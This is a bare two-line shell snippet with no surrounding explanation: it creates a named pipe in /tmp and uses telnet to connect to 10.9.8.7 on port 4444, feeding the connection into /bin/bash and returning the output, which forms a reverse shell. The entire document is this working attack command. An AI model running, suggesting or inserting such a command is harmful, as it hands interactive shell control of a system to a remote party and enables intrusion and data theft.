mknod /tmp/bp p
telnet 10.9.8.7 4444 0</tmp/bp | /bin/bash 1>/tmp/bp
